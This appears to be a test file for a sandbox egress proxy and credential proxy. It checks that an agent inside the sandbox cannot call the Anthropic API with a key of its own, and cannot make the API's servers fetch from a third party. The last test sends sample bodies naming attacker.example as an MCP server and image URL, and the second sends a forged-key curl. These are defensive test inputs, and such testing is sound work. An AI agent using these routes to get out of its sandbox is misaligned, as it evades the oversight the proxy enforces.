/**
 * The Anthropic API is the one host the egress proxy tunnels without looking (model request
 * bodies legitimately trip DLP). When cred-proxy carries the bottle's Anthropic route, that
 * passthrough is cred-proxy's alone: the agent's own connections to the API are intercepted and
 * scanned, so the agent cannot talk to the API with a key of its own (someone else's account).
 * Nothing listens behind api.anthropic.com here: the tests look at what the proxy does.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { bridgeGateway, launchBottle, type TestBottle } from "../../helpers/bottle.ts";
import { connectDocker } from "../docker/engine-available.ts";
import { parseCurl } from "./upstream.ts";

const docker = await connectDocker({ baseImage: true });
const { engine } = docker;

/** A raw CONNECT to api.anthropic.com through the egress proxy; prints the status line. */
const CONNECT_API = `const s = require("node:net").connect(8888, "egress-proxy", () =>
  s.write("CONNECT api.anthropic.com:443 HTTP/1.1\\r\\nHost: api.anthropic.com:443\\r\\n\\r\\n"));
s.on("data", (d) => { console.log(String(d).split("\\r\\n")[0]); s.destroy(); });
s.on("error", (e) => console.log(e.message));`;

describe("attacks on the Anthropic API passthrough, from inside a bottle", {
  skip: docker.skip,
  timeout: 600_000,
}, () => {
  let bottle: TestBottle;

  before(async () => {
    const gateway = await bridgeGateway(engine);
    bottle = await launchBottle({
      env: { CB_ANTHROPIC_KEY: "the-bottles-own-key-held-by-cred-proxy" },
      bottle: `
cred_proxy:
  routes:
    - {path: /anthropic, upstream: "https://api.anthropic.com", auth_scheme: x-api-key, token_ref: CB_ANTHROPIC_KEY, role: anthropic-base-url}
egress:
  hosts: {api.anthropic.com: host-gateway}
  ip_allowlist: ["${gateway}/32"]
`,
    });
  });

  after(async () => {
    await bottle?.stop();
  });

  it("G2: the agent's own connection to the API is intercepted, cred-proxy's is tunnelled untouched", async () => {
    const fromCredProxy = await engine.containerExec(bottle.container("cred-proxy"), [
      "node",
      "-e",
      CONNECT_API,
    ]);
    const fromAgent = await bottle.execArgv(["node", "-e", CONNECT_API]);
    // cred-proxy gets a blind tunnel to whatever is upstream (here, usually nothing: 502); the
    // agent gets the proxy's own TLS endpoint, whatever is upstream. The audit says which.
    assert.match(fromCredProxy.stdout, /^HTTP\/1\.1 (200|502)/);
    assert.match(fromAgent.stdout, /^HTTP\/1\.1 200/);
    const rules = () =>
      bottle
        .audit()
        .filter((line) => line.kind === "tunnel" && line.host === "api.anthropic.com")
        .map((line) => line.rule);
    for (let tries = 0; tries < 100 && rules().length < 2; tries++)
      await new Promise((resolve) => setTimeout(resolve, 100));
    assert.deepEqual(rules().sort(), [
      "intercept api.anthropic.com (passthrough only for passthrough_clients)",
      "passthrough api.anthropic.com",
    ]);
  });

  it("G2: an API key the bottle does not hold, sent by the agent to the API, is refused", async () => {
    // Made inside the bottle, as an agent would.
    const answer = parseCurl(
      (
        await bottle.exec(
          `curl -sS -i -m 15 -H "x-api-key: sk-ant-api03-$(tr -dc A-Za-z0-9 </dev/urandom | head -c 93)AA" https://api.anthropic.com/v1/messages -d '{}'`,
        )
      ).stdout,
    );
    assert.equal(answer.status, 403, JSON.stringify(answer));
    assert.equal(answer.block, "dlp-secret");
    assert.ok(answer.body.includes("rule: anthropic-api-key in headers"), answer.body);
  });

  it("G2: a Messages request that would make Anthropic's servers reach a third party is refused by cred-proxy", async () => {
    const post = async (body: unknown) =>
      parseCurl(
        (
          await bottle.exec(
            `curl -sS -i -m 30 -H 'content-type: application/json' "$ANTHROPIC_BASE_URL/v1/messages" --data-binary '${JSON.stringify(body)}'`,
          )
        ).stdout,
      );
    const base = { model: "claude-sonnet-4-5", max_tokens: 16, messages: [{ role: "user", content: "hi" }] };
    for (const attack of [
      {
        ...base,
        mcp_servers: [
          { type: "url", url: "https://attacker.example/mcp", name: "x", authorization_token: "t" },
        ],
      },
      { ...base, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
      { ...base, tools: [{ type: "web_search_20250305", name: "web_search" }] },
      {
        ...base,
        messages: [
          {
            role: "user",
            content: [{ type: "image", source: { type: "url", url: "https://attacker.example/p.png" } }],
          },
        ],
      },
    ]) {
      const answer = await post(attack);
      assert.equal(answer.status, 403, JSON.stringify(answer));
      assert.equal(answer.block, "server-tool");
      assert.match(answer.body, /"type":"error"/);
    }
    // The positive control: an ordinary request is forwarded (no refusal; nothing listens upstream here).
    const ordinary = await post(base);
    assert.notEqual(ordinary.block, "server-tool", JSON.stringify(ordinary));
    assert.notEqual(ordinary.status, 403);
  });
});
